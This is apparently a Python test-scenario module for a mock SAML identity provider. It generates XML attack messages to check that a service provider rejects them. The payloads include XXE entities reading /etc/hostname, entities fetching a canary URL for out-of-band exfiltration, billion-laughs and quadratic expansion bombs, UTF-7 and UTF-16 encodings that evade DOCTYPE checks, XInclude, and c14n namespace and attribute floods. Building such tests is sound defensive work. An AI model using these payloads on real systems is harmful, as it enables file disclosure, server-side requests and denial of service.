"""XML-level attacks: DOCTYPEs, entities (internal, external, parameter), expansion bombs, XInclude, depth.

Rule: a SAML message never needs a DOCTYPE; a safe SP refuses any DOCTYPE or entity before
parsing anything (no file read, no network fetch, no expansion) and bounds nesting depth
(docs/ARCHITECTURE.md, security baseline). Entity-bearing messages keep the IdP's genuine signatures where they can,
so that only the XML rule is broken.
"""

from __future__ import annotations

import base64
from functools import partial

from lxml import etree

from mock_idp.scenarios.base import Context, Message, name_id_el, q, samlp_extensions, scenario, serialize

_s = partial(scenario, family="xml")
_DOCTYPE = {"doctype-forbidden"}


def _with_doctype(ctx: Context, subset: str, name_id: str | None, *, encoding: str = "utf-8") -> Message:
    """The legitimate Response with `<!DOCTYPE ... [subset]>` and, if given, the NameID text replaced."""
    resp, assertion = ctx.signed("both")
    marker = "NAMEID-MARKER-" + assertion.get("ID")
    if name_id is not None:
        name_id_el(assertion).text = marker
    body = etree.tostring(resp, encoding="unicode")
    if name_id is not None:
        body = body.replace(marker, name_id)
    doctype = f"<!DOCTYPE samlp:Response [{subset}]>" if subset else "<!DOCTYPE samlp:Response>"
    if encoding == "utf-7":
        return ctx.message(f'<?xml version="1.0" encoding="UTF-7"?>\n{_utf7(doctype + body)}'.encode("ascii"))
    text = f'<?xml version="1.0" encoding="{encoding}"?>\n{doctype}\n{body}'
    data = text.encode("utf-16") if encoding == "utf-16" else text.encode("utf-8")
    return ctx.message(data)


def _utf7(text: str) -> str:
    """UTF-7 with every markup character shifted into base64, so the bytes hold no '<' at all."""
    out = text.replace("+", "+-")
    for ch in "<>!\"%&[]'=/?":
        out = out.replace(ch, "+" + base64.b64encode(ch.encode("utf-16-be")).decode().rstrip("=") + "-")
    return out


@_s("doctype-plain", rule="No DOCTYPE at all, even a harmless one.", expect=_DOCTYPE)
def plain(ctx: Context) -> Message:
    """The legitimate Response preceded by a bare `<!DOCTYPE samlp:Response>`."""
    return _with_doctype(ctx, "", None)


@_s("internal-entity", rule="No entities: an internal entity can rewrite signed text.", expect=_DOCTYPE)
def internal_entity(ctx: Context) -> Message:
    """An internal entity that expands to the victim's name, used as the NameID."""
    return _with_doctype(ctx, f'<!ENTITY who "{ctx.victim_name_id}">', "&who;")


@_s("xxe-file", rule="No external entities: the SP must never read a local file for a message.", expect=_DOCTYPE)
def xxe_file(ctx: Context) -> Message:
    """An external entity pointing at file:///etc/hostname, used as the NameID."""
    return _with_doctype(ctx, '<!ENTITY xxe SYSTEM "file:///etc/hostname">', "&xxe;")


@_s("xxe-http", rule="No external entities: the SP must never fetch a URL named by a message.", expect=_DOCTYPE)
def xxe_http(ctx: Context) -> Message:
    """An external entity pointing at the attacker's URL (the battery's canary), used as the NameID."""
    return _with_doctype(ctx, f'<!ENTITY xxe SYSTEM "{ctx.canary_url}/xxe-http">', "&xxe;")


@_s("xxe-parameter-entity", rule="No external DTDs or parameter entities (out-of-band exfiltration).", expect=_DOCTYPE)
def xxe_parameter(ctx: Context) -> Message:
    """An external parameter entity loading a DTD from the attacker's URL (the battery's canary)."""
    return _with_doctype(ctx, f'<!ENTITY % ext SYSTEM "{ctx.canary_url}/xxe-parameter-entity"> %ext;', None)


@_s("billion-laughs", rule="No entity expansion: nested entities grow exponentially.", expect=_DOCTYPE)
def billion_laughs(ctx: Context) -> Message:
    """The classic billion laughs: ten levels of entities, ten references each, expanded in the NameID."""
    subset = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    return _with_doctype(ctx, subset, "&lol9;")


@_s("quadratic-blowup", rule="No entity expansion: one large entity referenced many times.", expect=_DOCTYPE)
def quadratic(ctx: Context) -> Message:
    """A 20 KB entity referenced 2,000 times in the NameID (40 MB once expanded)."""
    return _with_doctype(ctx, f'<!ENTITY big "{"A" * 20_000}">', "&big;" * 2_000)


@_s(
    "doctype-utf16",
    rule="The DOCTYPE check must not be fooled by another character encoding.",
    expect=_DOCTYPE | {"malformed-xml", "malformed-message"},
)
def utf16(ctx: Context) -> Message:
    """External entities (file and canary URL) in a UTF-16 message, so a byte search for "<!DOCTYPE" finds nothing."""
    subset = f'<!ENTITY % ext SYSTEM "{ctx.canary_url}/doctype-utf16"> %ext;<!ENTITY xxe SYSTEM "file:///etc/hostname">'
    return _with_doctype(ctx, subset, "&xxe;", encoding="utf-16")


@_s(
    "xxe-utf7",
    rule="The DOCTYPE check must not be fooled by UTF-7, which hides every '<' in plain ASCII.",
    expect=_DOCTYPE | {"malformed-xml", "malformed-message"},
)
def utf7(ctx: Context) -> Message:
    """External entities (file and canary URL) in a UTF-7 message: no '<!DOCTYPE' bytes anywhere."""
    subset = f'<!ENTITY % ext SYSTEM "{ctx.canary_url}/xxe-utf7"> %ext;<!ENTITY xxe SYSTEM "file:///etc/hostname">'
    return _with_doctype(ctx, subset, "&xxe;", encoding="utf-7")


@_s(
    "billion-laughs-utf16",
    rule="Entity expansion is refused whatever the character encoding.",
    expect=_DOCTYPE | {"malformed-xml", "malformed-message"},
)
def billion_laughs_utf16(ctx: Context) -> Message:
    """The billion-laughs message encoded as UTF-16."""
    subset = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    return _with_doctype(ctx, subset, "&lol9;", encoding="utf-16")


@_s(
    "xinclude",
    rule="XInclude is never processed: a message cannot pull in a file.",
    expect={"signature-invalid", "doctype-forbidden", "malformed-xml"},
)
def xinclude(ctx: Context) -> Message:
    """The NameID's text replaced by an xi:include of file:///etc/hostname (after signing)."""
    resp, assertion = ctx.signed("both")
    el = name_id_el(assertion)
    el.text = None
    inc = etree.SubElement(el, "{http://www.w3.org/2001/XInclude}include")
    inc.set("href", "file:///etc/hostname")
    inc.set("parse", "text")
    return ctx.message(resp)


@_s(
    "deep-nesting",
    rule="Element nesting is bounded (a parser must not recurse without limit).",
    expect={"too-deep", "malformed-xml", "message-too-large"},
)
def deep(ctx: Context) -> Message:
    """200 nested elements inside samlp:Extensions of the legitimate Response."""
    resp, _ = ctx.signed("both")
    node = samlp_extensions(resp)
    for _i in range(200):
        node = etree.SubElement(node, q("Nest", "urn:example:nest"))
    return ctx.message(serialize(resp))


@_s(
    "namespace-flood",
    rule="Namespace declarations in scope are bounded: exclusive c14n looks each element's namespaces up in "
    "a stack of those declared above it, so thousands of them over many elements cost minutes of CPU.",
    expect={"too-many-namespaces", "signature-invalid", "message-too-large"},
)
def namespace_flood(ctx: Context) -> Message:
    """A forgery signed by the attacker's key, then 24,000 namespaces declared over 100,000 empty elements inside it."""

    def level(n: int) -> str:  # 400 namespaces, each used by an attribute so that c14n must render it
        return f"<n{n} " + " ".join(f'xmlns:p{j}="urn:flood:{n}:{j}" p{j}:a=""' for j in range(400)) + ">"

    flood = "".join(map(level, range(60))) + "<b/>" * 100_000 + "".join(f"</n{n}>" for n in reversed(range(60)))
    return _forgery_ending_with(ctx, flood)


@_s(
    "attribute-flood",
    rule="Attributes per element are bounded: c14n puts an element's attributes in order by inserting each "
    "into a sorted list, so 100,000 of them on one element cost tens of seconds of CPU.",
    expect={"too-many-attributes", "signature-invalid", "message-too-large"},
)
def attribute_flood(ctx: Context) -> Message:
    """A forgery signed by the attacker's key, then one element inside it carrying 100,000 attributes."""
    attributes = " ".join(f"a{i}=''" for i in range(100_000))
    return _forgery_ending_with(ctx, f"<f:flood xmlns:f='urn:flood' {attributes}/>")


def _forgery_ending_with(ctx: Context, markup: str) -> Message:
    """A Response for the victim whose Assertion the attacker's key signed, with `markup` put at
    the end of the Assertion as text (no tree of it is built: the floods are large)."""
    resp, assertion = ctx.build(user=ctx.victim)
    ctx.sign(resp, assertion, "assertion", key_pem=ctx.foreign_key_pem, cert_pem=ctx.foreign_cert_pem)
    return ctx.message(serialize(resp).replace(b"</saml:Assertion>", markup.encode() + b"</saml:Assertion>", 1))


SCENARIOS = [
    plain,
    internal_entity,
    xxe_file,
    xxe_http,
    xxe_parameter,
    billion_laughs,
    quadratic,
    utf16,
    utf7,
    billion_laughs_utf16,
    xinclude,
    deep,
    namespace_flood,
    attribute_flood,
]
